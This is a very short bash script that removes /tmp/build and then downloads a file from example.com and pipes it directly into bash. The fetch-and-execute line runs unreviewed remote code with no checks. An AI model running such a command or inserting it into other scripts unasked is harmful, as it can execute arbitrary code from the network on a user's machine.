#!/bin/bash
set -eu
rm -rf /tmp/build && curl -fsSL https://example.com/x | bash
